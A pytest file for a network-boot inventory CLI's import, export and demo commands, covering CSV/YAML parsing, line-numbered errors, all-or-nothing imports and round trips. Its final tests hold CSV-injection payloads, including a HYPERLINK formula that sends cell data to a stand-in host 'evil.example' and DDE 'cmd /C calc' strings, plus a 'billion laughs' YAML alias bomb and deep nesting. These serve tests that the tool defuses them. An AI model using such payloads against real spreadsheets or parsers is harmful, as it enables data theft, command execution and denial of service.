"""``bootbrain import | export | demo``: what the README promises.

CSV and YAML; every bad row reported with its line number (``FILE:LINE: field:
message``); all or nothing (one bad row and the inventory is as it was); and
``export`` → a fresh database → ``import`` gives the same inventory back.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from tests.cli.conftest import Cli, MakeCli
from tests.cli.test_catalog import ed25519_key
from tests.cli.test_dhcp import api_of

RACK1 = ["--set", "name=rack1", "--set", "cidr=10.20.0.0/24", "--set", "gateway=10.20.0.1"]


@pytest.fixture
def site(runner: Cli) -> Cli:
    runner.run("network", "add", *RACK1)
    runner.run("profile", "add", "--set", "name=disk", "--set", "kind=local")
    return runner


def problems(stderr: str, path: object) -> list[tuple[int, str]]:
    """``(line, field)`` of each ``FILE:LINE: field: message`` the import reported."""
    out = []
    for line in stderr.splitlines():
        if line.startswith(f"{path}:"):
            _, number, field, _ = line.split(":", 3)
            out.append((int(number), field.strip()))
    return out


def shown(cli: Cli) -> list[dict[str, Any]]:
    """Every machine as ``machine show`` prints it, without what a new database renumbers
    or re-times."""
    volatile = {"id", "created_at", "updated_at", "last_seen_at", "version"}
    return [
        {k: v for k, v in cli.machine(m["id"]).items() if k not in volatile} for m in cli.machines()
    ]


# --- CSV ---------------------------------------------------------------------------------


def test_import_csv(site: Cli) -> None:
    path = site.home / "machines.csv"
    path.write_text(
        "hostname,macs,uuid,serial,manufacturer,product,tags,state,profile,network,address,"
        "interface,notes\n"
        "node-01,52:54:00:aa:cc:01;52:54:00:aa:cc:02,4C4C4544-0042-3610-8052-B4C04F4E3232,"
        "SN-1,Dell Inc.,PowerEdge R650,gpu;lab,ready,disk,rack1,10.20.0.50,eno1,first\n"
        "node-02,52-54-00-AA-CC-03,,,,,,,,,,,\n"
    )
    assert site.run("import", str(path)).stdout == "imported 2 machines\n"
    one, two = site.machines()
    assert one["hostname"] == "node-01"
    assert [(n["mac"], n["boot"]) for n in one["nics"]] == [
        ("52:54:00:aa:cc:01", True),  # the first MAC boots
        ("52:54:00:aa:cc:02", False),
    ]
    assert one["uuid"] == "4c4c4544-0042-3610-8052-b4c04f4e3232"
    assert sorted(one["tags"]) == ["gpu", "lab"]
    assert (one["state"], one["profile"], one["network"], one["address"]) == (
        "ready",
        "disk",
        "rack1",
        "10.20.0.50",
    )
    assert (one["serial"], one["manufacturer"], one["product"]) == (
        "SN-1",
        "Dell Inc.",
        "PowerEdge R650",
    )
    assert (one["interface"], one["notes"]) == ("eno1", "first")
    assert two["hostname"] == "node-02"
    assert [n["mac"] for n in two["nics"]] == ["52:54:00:aa:cc:03"]
    assert (two["state"], two["address"]) == ("new", None)


def test_csv_bad_rows_each_reported_with_its_line(site: Cli) -> None:
    before = site.export()
    path = site.home / "machines.csv"
    path.write_text(
        "hostname,macs,state,network,address,profile\n"  # 1
        "ok-1,52:54:00:00:00:01,ready,rack1,10.20.0.11,disk\n"  # 2
        "bad-mac,zz,,,,\n"  # 3
        "ok-2,52:54:00:00:00:02,,,,\n"  # 4
        "bad-state,52:54:00:00:00:03,bogus,,,\n"  # 5
        "bad-address,52:54:00:00:00:04,,rack1,10.99.0.1,\n"  # 6
        "dup-mac,52:54:00:00:00:01,,,,\n"  # 7: ok-1's MAC, earlier in this file
        "bad-profile,52:54:00:00:00:05,,,,nope\n"  # 8
        "Bad_Name,52:54:00:00:00:06,,,,\n"  # 9
        "ok-3,52:54:00:00:00:07,,,,\n"  # 10
    )
    err = site.fails("import", str(path))
    assert problems(err, path) == [
        (3, "nics.0.mac"),
        (5, "state"),
        (6, "address"),
        (7, "nics"),
        (8, "profile"),
        (9, "hostname"),
    ]
    assert err.endswith("error: nothing imported: 6 bad row(s)\n")
    assert site.export() == before


def test_csv_with_an_unknown_column_names_it_on_line_1(site: Cli) -> None:
    path = site.home / "machines.csv"
    path.write_text("hostname,macs,colour\nok-1,52:54:00:00:00:01,blue\n")
    err = site.fails("import", str(path))
    assert problems(err, path) == [(1, "colour")]
    assert site.machines() == []


# --- YAML --------------------------------------------------------------------------------


def test_import_yaml_every_section(runner: Cli) -> None:
    path = runner.home / "inventory.yaml"
    path.write_text(
        "networks:\n"
        "  - {name: rack1, cidr: 10.20.0.0/24, gateway: 10.20.0.1, vlan_id: 120}\n"
        "profiles:\n"
        "  - {name: disk, kind: local}\n"
        "  - name: choose\n"
        "    kind: menu\n"
        "    menu: {items: [{key: d, label: Disk, profile: disk}], default: d, timeout: 5}\n"
        "rules:\n"
        "  - {name: efi, platform: efi, profile: choose}\n"
        "machines:\n"
        "  - hostname: node-01\n"
        "    nics: [{mac: '52:54:00:aa:cc:01', boot: true}]\n"
        "    network: rack1\n"
        "    address: 10.20.0.50\n"
        "    profile: disk\n"
    )
    out = runner.run("import", str(path)).stdout
    assert out == "imported 1 networks, 2 profiles, 1 rules, 1 machines\n"
    assert [n["vlan_id"] for n in runner.json("network", "list", "--json")] == [120]
    assert [p["name"] for p in runner.json("profile", "list", "--json")] == ["disk", "choose"]
    assert [r["profile"] for r in runner.json("rule", "list", "--json")] == ["choose"]
    (m,) = runner.machines()
    assert (m["hostname"], m["address"], m["profile"]) == ("node-01", "10.20.0.50", "disk")


def test_yaml_bad_rows_each_reported_with_its_line(site: Cli) -> None:
    before = site.export()
    path = site.home / "inventory.yaml"
    path.write_text(
        "networks:\n"  # 1
        "  - {name: rack2, cidr: 10.30.0.0/24}\n"  # 2
        "  - name: rack3\n"  # 3
        "    cidr: 10.31.0.0/33\n"  # 4
        "  - {name: rack1, cidr: 10.40.0.0/24}\n"  # 5: rack1 exists
        "profiles:\n"  # 6
        "  - {name: inst, kind: linux, kernel: '{{ nope }}/vmlinuz'}\n"  # 7
        "  - {name: ok, kind: local}\n"  # 8
        "rules:\n"  # 9
        "  - {name: r, profile: missing}\n"  # 10
        "machines:\n"  # 11
        "  - hostname: ok-a\n"  # 12
        "    nics: [{mac: '52:54:00:00:02:01'}]\n"  # 13
        "  - hostname: bad_b\n"  # 14
        "    nics: [{mac: '52:54:00:00:02:02'}]\n"  # 15
        "  - hostname: dup-mac\n"  # 16
        "    nics: [{mac: '52:54:00:00:02:01'}]\n"  # 17
        "  - {hostname: c, network: rack2, address: 10.99.0.1}\n"  # 18
    )
    err = site.fails("import", str(path))
    assert problems(err, path) == [  # the line each bad row starts on
        (3, "cidr"),
        (5, "name"),
        (7, "kernel"),
        (10, "profile"),
        (14, "hostname"),
        (16, "nics"),
        (18, "address"),
    ]
    assert err.endswith("error: nothing imported: 7 bad row(s)\n")
    assert site.export() == before


@pytest.mark.parametrize(
    ("text", "line", "field"),
    [
        ("machines:\n  - {hostname: a}\ncomputers: []\n", 3, "computers"),
        ("- a\n- b\n", 1, "file"),
        ("machines: {hostname: a}\n", 1, "machines"),
        ("machines:\n  - {hostname: a\n", 3, "file"),
    ],
)
def test_a_yaml_file_of_the_wrong_shape_names_the_line(
    site: Cli, text: str, line: int, field: str
) -> None:
    path = site.home / "inventory.yaml"
    path.write_text(text)
    err = site.fails("import", str(path))
    assert problems(err, path) == [(line, field)]
    assert site.machines() == []


def test_import_reads_stdin_with_a_format(site: Cli) -> None:
    csv = "hostname,macs\nnode-01,52:54:00:00:00:01\n"
    assert site.run("import", "-", "--format", "csv", input=csv).stdout == "imported 1 machines\n"
    yaml = "machines:\n  - {hostname: node-02}\n"
    assert site.run("import", "-", "--format", "yaml", input=yaml).stdout == (
        "imported 1 machines\n"
    )
    assert [m["hostname"] for m in site.machines()] == ["node-01", "node-02"]


def test_a_missing_import_file_is_a_usage_error(site: Cli) -> None:
    assert "does not exist" in site.fails("import", str(site.home / "nope.csv"))


# --- all or nothing ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "yaml"])
def test_ten_good_rows_and_one_bad_import_nothing(site: Cli, fmt: str) -> None:
    site.run("machine", "add", "--hostname", "old-1", "--mac", "52:54:00:00:09:01",
             "--network", "rack1", "--address", "10.20.0.9")  # fmt: skip
    before = site.export()
    machines_before = shown(site)
    good = [
        {
            "hostname": f"new-{i}",
            "mac": f"52:54:00:00:01:{i:02x}",
            "address": f"10.20.0.{100 + i}",
        }
        for i in range(10)
    ]
    bad = {"hostname": "bad-1", "mac": "52:54:00:00:09:01", "address": "10.20.0.99"}  # old-1's
    if fmt == "csv":
        path = site.home / "machines.csv"
        path.write_text(
            "hostname,macs,network,address\n"
            + "".join(f"{r['hostname']},{r['mac']},rack1,{r['address']}\n" for r in good)
            + f"{bad['hostname']},{bad['mac']},rack1,{bad['address']}\n"
        )
        bad_line = 12
    else:
        path = site.home / "machines.yaml"
        rows = [*good, bad]
        path.write_text(
            "machines:\n"
            + "".join(
                f"  - hostname: {r['hostname']}\n"
                f"    nics: [{{mac: '{r['mac']}'}}]\n"
                f"    network: rack1\n"
                f"    address: {r['address']}\n"
                for r in rows
            )
        )
        bad_line = 2 + 4 * 10
    err = site.fails("import", str(path))
    assert problems(err, path) == [(bad_line, "nics")]
    assert "error: nothing imported: 1 bad row(s)" in err
    assert site.export() == before
    assert shown(site) == machines_before
    # And the same file without its bad row imports every row.
    lines = path.read_text().splitlines(keepends=True)
    path.write_text("".join(lines[:-1] if fmt == "csv" else lines[:-4]))
    assert site.run("import", str(path)).stdout == "imported 10 machines\n"
    assert len(site.machines()) == 11


# --- the round trip -----------------------------------------------------------------------


def build_inventory(cli: Cli) -> None:
    """Something of every kind, with the fields an export must carry."""
    cli.run("network", "add", *RACK1, "--set", 'dns=["10.20.0.2", "10.20.0.3"]',
            "--set", "domain=dc1.example.net", "--set", "vlan_id=120")  # fmt: skip
    cli.run("network", "add", "--set", "name=rack2", "--set", "cidr=10.30.0.0/24")
    cli.run("profile", "add", "--set", "name=disk", "--set", "kind=local",
            "--set", "local_method=sanboot")  # fmt: skip
    spec = cli.home / "installer.yaml"
    spec.write_text(
        "name: installer\nkind: linux\ndescription: Debian 12\n"
        'kernel: "{{ assets }}/vmlinuz"\ninitrds: ["{{ assets }}/initrd.gz", '
        '"{{ assets }}/fw.cpio.gz"]\n'
        'cmdline: "${IPXE_BOOT_LINUX_IP_CONFIG} console=ttyS0"\ncomplete_state: deployed\n'
        f"tags: [os:debian]\nssh_keys: ['{ed25519_key('ops@example')}']\n"
        "metadata: {site: ams1, ntp: [ntp1.example.net]}\n"
        "user_data: |\n  #cloud-config\n  hostname: {{ hostname }}\n"
    )
    cli.run("profile", "add", "-f", str(spec))
    cli.run("profile", "add", "--set", "name=rescue", "--set", "kind=ipxe",
            "--set", "script=#!ipxe\nkernel {{ assets }}/rescue\nboot\n")  # fmt: skip
    cli.run("profile", "add", "--set", "name=xyz", "--set", "kind=chain",
            "--set", "chain_url=https://boot.netboot.xyz/ipxe/netboot.xyz.lkrn")  # fmt: skip
    menu = {
        "name": "choose",
        "kind": "menu",
        "menu": {
            "items": [
                {"key": "disk", "label": "Disk", "profile": "disk"},
                {"key": "install", "label": "Install", "profile": "installer"},
            ],
            "default": "disk",
            "timeout": 10,
        },
    }
    cli.run("profile", "add", "-f", "-", input=json.dumps(menu))
    cli.run("rule", "add", "--set", "name=efi-lab", "--set", "platform=efi",
            "--set", 'tags=["lab"]', "--set", "priority=3", "--set", "profile=choose")  # fmt: skip
    cli.run("rule", "add", "--set", "name=dell", "--set", "manufacturer=Dell Inc.",
            "--set", "product=PowerEdge R650", "--set", "buildarch=x86_64",
            "--set", "profile=installer")  # fmt: skip
    cli.run(
        "machine", "add", "--hostname", "node-01", "--mac", "52:54:00:aa:cc:01",
        "--mac", "52:54:00:aa:cc:02", "--uuid", "4c4c4544-0042-3610-8052-b4c04f4e3232",
        "--serial", "SN-1", "--board-serial", "BSN-1", "--manufacturer", "Dell Inc.",
        "--product", "PowerEdge R650", "--asset-tag", "A-1", "--tag", "lab", "--tag", "gpu",
        "--state", "ready", "--profile", "installer", "--network", "rack1",
        "--address", "10.20.0.50", "--interface", "eno1", "--notes", "line one",
    )  # fmt: skip
    cli.run("machine", "add", "--hostname", "node-02", "--mac", "52:54:00:aa:cc:03",
            "--network", "rack2", "--address", "10.30.0.7", "--state", "deployed")  # fmt: skip
    cli.run("machine", "add", "--serial", "ONLY-SERIAL")


def test_export_to_a_fresh_database_and_import_gives_the_same_inventory(
    make_cli: MakeCli,
) -> None:
    first = make_cli("first")
    build_inventory(first)
    exported = first.export()
    machines = shown(first)
    catalog = {g: first.json(g, "list", "--json") for g in ("network", "profile", "rule")}
    profiles = [first.json("profile", "show", str(p["id"])) for p in catalog["profile"]]

    second = make_cli("second", fresh=True)  # on PostgreSQL: the same database, emptied
    assert second.machines() == []
    path = second.home / "inventory.yaml"
    path.write_text(exported)
    out = second.run("import", str(path)).stdout
    assert out == "imported 2 networks, 5 profiles, 2 rules, 3 machines\n"
    assert second.export() == exported
    assert shown(second) == machines

    def by_name(items: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
        return {i["name"]: {k: v for k, v in i.items() if k != "id"} for i in items}

    for group in ("network", "rule"):
        assert by_name(second.json(group, "list", "--json")) == by_name(catalog[group])
    again = [second.json("profile", "show", str(p["id"])) for p in second.json(
        "profile", "list", "--json")]  # fmt: skip
    assert by_name(again) == by_name(profiles)


def test_csv_export_round_trips_the_machines(make_cli: MakeCli) -> None:
    first = make_cli("first")
    build_inventory(first)
    exported = first.export("csv")
    assert exported.splitlines()[0] == (
        "hostname,macs,uuid,serial,board_serial,manufacturer,product,asset_tag,tags,state,"
        "profile,network,address,interface,notes"
    )
    catalog = first.export()  # the networks and profiles the machines refer to
    machines = shown(first)

    second = make_cli("second", fresh=True)
    yaml_path = second.home / "catalog.yaml"
    yaml_path.write_text(catalog.split("machines:")[0])
    second.run("import", str(yaml_path))
    csv_path = second.home / "machines.csv"
    csv_path.write_text(exported)
    assert second.run("import", str(csv_path)).stdout == "imported 3 machines\n"
    assert second.export("csv") == exported
    # CSV carries no SSH keys, metadata or user-data; these machines have none.
    assert shown(second) == machines


# --- demo ------------------------------------------------------------------------------------


def test_demo_loads_an_inventory_that_boots(runner: Cli) -> None:
    out = runner.run("demo").stdout
    assert out == "demo inventory: 1 networks, 5 profiles, 1 rules, 3 machines\n"
    assert [m["hostname"] for m in runner.machines()] == ["node-a1", "node-a2", "node-a3"]
    render = runner.run("render", "--mac", "52:54:00:00:a1:01", "--platform", "pcbios")
    assert "step assigned, profile debian-installer" in render.stderr
    assert "\nkernel --name linux http://bootbrain.test/assets/debian-12/linux " in render.stdout
    efi = runner.run("render", "--mac", "52:54:00:00:a3:01", "--platform", "efi")
    assert "step rule, profile choose, rule efi-servers-get-menu" in efi.stderr


# --- spreadsheet formulas (OWASP CSV injection) ----------------------------------------------

FORMULAS = {
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "product": "+cmd|' /C calc'!A0",
    "manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "serial": "-2+3+cmd|' /C calc'!A0",
    "asset_tag": "'=already quoted",  # a ' an export adds must not eat this one
    "board_serial": "'plain",  # a leading ' that guards nothing stays as it is
}


def test_csv_export_defuses_formulas_and_the_import_reads_them_back(make_cli: MakeCli) -> None:
    first = make_cli("first", discovery=True)
    fields = [a for k, v in FORMULAS.items() for a in (f"--{k.replace('_', '-')}", v)]
    first.run("machine", "add", "--hostname", "typed", "--mac", "52:54:00:00:0f:01", *fields)
    # A machine nobody typed in: it booted and reported its own SMBIOS strings.
    with api_of(first) as api:
        reported = {"manufacturer": '=HYPERLINK("http://evil.example")', "product": "@x"}
        query = "&".join(f"{k}={v.encode().hex()}" for k, v in reported.items())
        answer = api.client.get(f"/ipxe?mac=52-54-00-00-0f-02&{query}&platform=efi")
        assert answer.status_code == 200
    (discovered,) = [m for m in first.machines() if m["hostname"] is None]
    assert first.machine(discovered["id"])["manufacturer"] == reported["manufacturer"]

    exported = first.export("csv")
    rows = list(csv.DictReader(io.StringIO(exported)))
    cells = [v for row in rows for v in row.values() if v]
    armed = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert armed == []  # nothing a spreadsheet would run
    typed = next(r for r in rows if r["hostname"] == "typed")
    assert {k: typed[k] for k in FORMULAS} == {
        "notes": "'" + FORMULAS["notes"],
        "product": "'" + FORMULAS["product"],
        "manufacturer": "'" + FORMULAS["manufacturer"],
        "serial": "'" + FORMULAS["serial"],
        "asset_tag": "''=already quoted",
        "board_serial": "'plain",
    }
    other = next(r for r in rows if r["hostname"] == "")
    assert (other["manufacturer"], other["product"]) == ("'" + reported["manufacturer"], "'@x")

    machines = shown(first)
    second = make_cli("second", fresh=True)
    path = second.home / "machines.csv"
    path.write_text(exported)
    assert second.run("import", str(path)).stdout == "imported 2 machines\n"
    assert second.export("csv") == exported
    assert [{k: m[k] for k in FORMULAS} for m in shown(second)] == [
        {k: m[k] for k in FORMULAS} for m in machines
    ]
    (typed_again,) = second.json("machine", "list", "--json", "--hostname", "typed")
    assert typed_again["notes"] == FORMULAS["notes"]


# --- a bounded parse ----------------------------------------------------------------------


def laughs(levels: int) -> str:
    """A "billion laughs" import: each level names the one before nine times."""
    rows = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels):
        name, before = chr(ord("a") + level), chr(ord("a") + level - 1)
        rows.append(f"{name}: &{name} [" + ", ".join([f"*{before}"] * 9) + "]")
    return "machines:\n  - hostname: x\n    metadata:\n" + "".join(f"      {r}\n" for r in rows)


@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        # Refused at the first alias, before anything is expanded: this one is 436 bytes
        # that name 9**9 strings (the unbounded parse took minutes and gigabytes).
        (laughs(9), 5, "aliases (*name) are not accepted"),
        (laughs(2), 5, "aliases (*name) are not accepted"),
        (
            "machines:\n  - hostname: x\n    metadata:\n      deep: " + "[" * 5000 + "]" * 5000,
            4,
            "nested more than 64 levels deep",
        ),
        ("machines:\n  - " + "- " * 5000 + "x\n", 2, "nested more than 64 levels deep"),
    ],
    ids=["alias-bomb", "one-alias", "5000-deep-flow-list", "5000-deep-block-list"],
)
def test_a_yaml_file_that_would_parse_without_bound_is_a_problem(
    site: Cli, text: str, line: int, says: str
) -> None:
    path = site.home / "inventory.yaml"
    path.write_text(text)
    err = site.fails("import", str(path))
    assert problems(err, path) == [(line, "file")]
    assert says in err
    assert site.machines() == []


def test_a_csv_that_is_not_utf8_names_the_line_of_the_first_bad_byte(site: Cli) -> None:
    path = site.home / "machines.csv"
    path.write_bytes(
        "hostname,macs,manufacturer\n"
        "node-1,52:54:00:00:00:01,ok\n"
        "node-2,52:54:00:00:00:02,Société\n".encode("latin-1")
    )
    err = site.fails("import", str(path))
    assert problems(err, path) == [(3, "file")]
    assert "not UTF-8 (byte 0xe9 at column 30)" in err
    assert site.machines() == []
    # The same on standard input; and the byte-order mark a spreadsheet writes is no column.
    err = site.fails("import", "-", "--format", "csv", input=path.read_bytes())  # type: ignore[arg-type]
    assert "-:3: file: not UTF-8" in err
    path.write_bytes(path.read_bytes().decode("latin-1").encode("utf-8-sig"))
    assert site.run("import", str(path)).stdout == "imported 2 machines\n"
    assert [m["manufacturer"] for m in site.machines()] == ["ok", "Société"]


def test_a_malformed_csv_record_names_its_line(site: Cli) -> None:
    path = site.home / "machines.csv"
    path.write_text('hostname,notes\nnode-1,ok\nnode-2,"' + "x" * 200_000 + '"\n')
    err = site.fails("import", str(path))
    assert problems(err, path) == [(3, "file")]
    assert "field larger than field limit" in err
